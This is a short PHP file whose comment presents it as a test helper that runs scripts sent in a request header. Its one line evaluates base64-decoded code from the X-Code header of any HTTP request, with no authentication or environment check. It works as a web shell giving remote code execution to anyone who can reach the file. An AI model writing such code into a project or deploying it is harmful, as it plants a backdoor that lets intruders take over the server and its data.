<?php

// Runs the code it is sent in a header: so the tests have their scripts in
// themselves, whatever the method and the body.

eval(base64_decode($_SERVER['HTTP_X_CODE']));
